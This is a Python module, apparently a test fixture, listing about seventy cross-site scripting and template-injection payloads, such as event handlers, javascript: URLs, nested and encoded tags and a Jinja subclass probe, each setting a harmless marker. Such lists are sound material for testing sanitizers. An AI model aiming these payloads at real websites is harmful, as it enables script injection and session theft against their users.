"""Attacks as people try them: markup, handlers, addresses, broken and nested forms, template and script ends."""

from __future__ import annotations

MARK = "window.hacked=1"
PAYLOADS = (
    f"<script>{MARK}</script>", f"</script><script>{MARK}</script>", f"<ScRiPt>{MARK}</sCrIpT>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>", f"<script src=data:text/javascript,{MARK}></script>",
    f'<img src=x onerror="{MARK}">', f"<img src=x onerror={MARK}>", f"<img/src=x/onerror={MARK}>",
    f'"><img src=x onerror="{MARK}">', f"'><img src=x onerror='{MARK}'>", f"--><img src=x onerror={MARK}>",
    f"]]><img src=x onerror={MARK}>", f"<svg onload={MARK}>", f"<svg/onload={MARK}>", f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>", f"<svg><set onbegin={MARK} attributename=x>",
    f"<math><mtext></mtext><mglyph><svg><mtext><style><path id='</style><img onerror={MARK} src>'>",
    f"<body onload={MARK}>", f"<iframe src=javascript:{MARK}></iframe>", f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<a href=javascript:{MARK} autofocus onfocus={MARK}>x</a>", f"<input autofocus onfocus={MARK}>",
    f"<select autofocus onfocus={MARK}></select>", f"<textarea autofocus onfocus={MARK}></textarea>",
    f"<details open ontoggle={MARK}>x</details>", f"<video><source onerror={MARK}></video>", f"<audio src=x onerror={MARK}>",
    f"<video src=x onerror={MARK}></video>", f"<object data=javascript:{MARK}></object>", f"<embed src=javascript:{MARK}>",
    f"<form><button formaction=javascript:{MARK} autofocus>x</button></form>", f"<marquee onstart={MARK}>x</marquee>",
    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}'>", f"<base href=javascript:{MARK}//>",
    f"<link rel=stylesheet href=javascript:{MARK}>", f"<style>@import 'javascript:{MARK}';</style>",
    f"<div style=\"background:url(javascript:{MARK})\">x</div>", f"<div style=animation-name:x onanimationstart={MARK}>x</div>",
    f"\" onmouseover=\"{MARK}\" x=\"", f"' onfocus='{MARK}' autofocus '", f"\" autofocus onfocus=\"{MARK}\" ",
    f"` onfocus=`{MARK}` autofocus", f"javascript:{MARK}", f"data:text/html,<script>{MARK}</script>",
    f"';{MARK};//", f"\";{MARK};//", f"\\\";{MARK};//", f"${{{MARK}}}", f"{{{{constructor.constructor('{MARK}')()}}}}",
    "{{7*7}}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", f"<!--<script>{MARK}//--></script>",
    f"<noscript><p title=\"</noscript><img src=x onerror={MARK}>\">", f"<template><script>{MARK}</script></template>",
    f"<xmp><p title=\"</xmp><svg/onload={MARK}>\">", f"<title></title><img src=x onerror={MARK}>",
    f"\u2028<script>{MARK}</script>\u2029", f"<img src=x onerror=\u0000{MARK}>".replace("\u0000", " "),
    f"%3Cscript%3E{MARK}%3C/script%3E", f"&lt;script&gt;{MARK}&lt;/script&gt;", f"&#60;script&#62;{MARK}&#60;/script&#62;",
    f"\\u003cscript\\u003e{MARK}\\u003c/script\\u003e", f"＜script＞{MARK}＜/script＞",
    f"<a xlink:href=javascript:{MARK}><rect width=99 height=99></a>", f"<isindex action=javascript:{MARK} type=image>",
)  # fmt: skip
